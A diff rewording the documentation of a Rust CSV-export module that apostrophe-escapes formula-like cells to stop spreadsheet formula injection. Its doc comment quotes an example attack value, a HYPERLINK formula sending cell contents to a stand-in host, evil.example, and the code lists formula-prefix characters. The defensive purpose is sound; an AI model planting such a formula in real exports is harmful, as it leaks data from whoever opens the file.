@@ -2,9 +2,11 @@
 //!
 //! **Attack**: a customer is named `=HYPERLINK("https://evil.example?"&A1,"Click")`.
 //! A spreadsheet evaluates such a cell as a formula, with the rights of the person who opens the export.
-//! **Control**: the csv crate writes RFC 4180. Every text is quoted, so that a semicolon or a line break in a text does
-//! not start a new cell. A text that begins like a formula gets an apostrophe before its first character, which makes a
-//! spreadsheet treat it as text. This includes texts with leading spaces and with full-width characters such as `＝`.
+//! **Control**: the csv crate writes RFC 4180.
+//! Every text is quoted, so that a semicolon or a line break in a text does not start a new cell.
+//! A text that begins like a formula gets an apostrophe before its first character.
+//! The apostrophe makes a spreadsheet treat the cell as text.
+//! Leading spaces and full-width characters such as `＝` are considered too.
 //! **Limits**: a program may remove the apostrophe and evaluate the remaining text.
 //! **ASVS**: 1.2.1, 1.2.10 · **Test**: `attacks::files::csv_injection`
 
@@ -12,7 +14,7 @@ use std::borrow::Cow;
 
 use csv::{QuoteStyle, Terminator, Writer, WriterBuilder};
 
-/// The characters by which a spreadsheet recognizes a formula, at the beginning of a cell.
+/// A spreadsheet evaluates a cell as a formula if the cell begins with one of these characters.
 const FORMULA_PREFIXES: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
 
 /// Creates a CSV writer that collects its output in memory.
